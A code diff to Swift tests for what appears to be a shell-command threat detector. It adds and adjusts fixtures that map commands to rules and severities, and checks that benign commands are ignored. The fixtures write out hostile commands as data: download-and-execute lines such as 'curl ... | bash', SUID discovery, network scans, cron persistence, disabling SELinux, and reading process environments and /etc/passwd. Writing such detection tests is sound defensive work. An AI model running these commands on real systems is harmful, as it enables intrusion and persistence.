@@ -35,9 +35,14 @@ private func rules(_ command: String) -> [String: Severity] {
       ("cat /proc/812/environ", "process-environment", .medium),
       ("ps aux | grep -iE 'falco|guardduty'", "security-software-discovery", .medium),
       ("find / -perm -4000 2>/dev/null", "privilege-discovery", .medium),
-      ("find / -type f -perm -u=s", "privilege-discovery", .medium),
-      (#"find / \( -perm -04000 -o -perm -02000 \) -exec ls -l {} \;"#, "privilege-discovery", .medium),
-      ("bash -c 'find / -perm /6000 -type f'", "privilege-discovery", .medium),
+      // Without a look away from what is refused it may be an audit.
+      ("find / -type f -perm -u=s", "privilege-discovery", .low),
+      (#"find / \( -perm -04000 -o -perm -02000 \) -exec ls -l {} \;"#, "privilege-discovery", .low),
+      ("bash -c 'find / -perm /6000 -type f 2>/dev/null'", "privilege-discovery", .medium),
+      ("nmap -sS 10.0.0.0/24", "network-scan", .low), ("masscan -p22 10.0.0.0/8", "network-scan", .low),
+      ("nmap -sV 10.0.0.9", "network-scan", .informational),
+      ("(crontab -u www -l; echo '* * * * * date') | crontab -u www -", "cron-persistence", .informational),
+      ("setenforce 0", "security-software-stopped", .low),
       ("whoami; id; uname -a; cat /etc/passwd", "discovery", .low),
       ("cd /tmp; wget http://198.51.100.9/x; chmod 777 x; ./x", "download-execute", .high),
       ("curl -s http://198.51.100.9/a.sh | bash", "download-execute", .high),
@@ -131,6 +136,14 @@ private func rules(_ command: String) -> [String: Severity] {
   func tellsAnIntrudersFromAnAdministrators(command: String, rule: String, severity: Severity) {
     #expect(rules(command)[rule] == severity)
   }
+
+  /// What only filters, shows help or is copied from is not even worth a word.
+  @Test(arguments: [
+    "crontab -l | grep -v old.sh | crontab -", "crontab -u www -l | sed 's/5/6/' | crontab -u www -", "nmap --help",
+    "nmap -V",
+    "nmap [target]", "ln -s .bashrc test", "cp ~/.bashrc /srv/backup/",
+  ])
+  func saysNothingOf(command: String) { #expect(rules(command).isEmpty) }
 
   @Test func onlyCommandsAreActs() {
     let found = "unset HISTFILE".withView {
